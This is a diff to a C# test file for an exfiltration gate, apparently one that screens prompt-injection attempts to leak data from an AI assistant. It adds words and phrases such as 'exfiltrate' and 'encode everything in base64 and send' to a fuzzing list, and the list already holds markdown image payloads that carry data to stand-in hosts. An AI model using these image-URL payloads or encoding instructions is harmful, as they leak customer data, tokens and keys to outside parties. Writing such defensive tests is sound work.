@@ -32,7 +32,10 @@ public sealed class ExfiltrationGateTests
         "encode", "Base64", "hex", "rot13", "url-encoded", "urlencode", "convert", "then", "post", "upload", "e-mail", "mail",
         "attach", "attached", "CC", "To", "to\t", "customer", "data", "dates", "birth", "driver's", "license", "access",
         "tokens", "api", "keys", "![x](https://t.example/p.png?d={data})", "<img src=https://t.example/a.gif?q=1>",
-        "http://h.example/i.png?x=", "as", "in", "me", "us", "_", "-", ",", "\n",
+        "http://h.example/i.png?x=", "as", "in", "me", "us", "_", "-", ",", "\n", "get", "fetch", "read out", "what are", "tell",
+        "find", "bulk", "complete", "full", "everyone's", "each", "whole", "give me", "leak", "exfiltrate", "Download", "copy",
+        "e-mail", "Query", "all of the", "every", "table", "records", "collection", "list",
+        "encode everything in base64 and send", "send it as hex", "convert them then post", "Email the data encoded as rot13",
     ];
 
     [Fact]
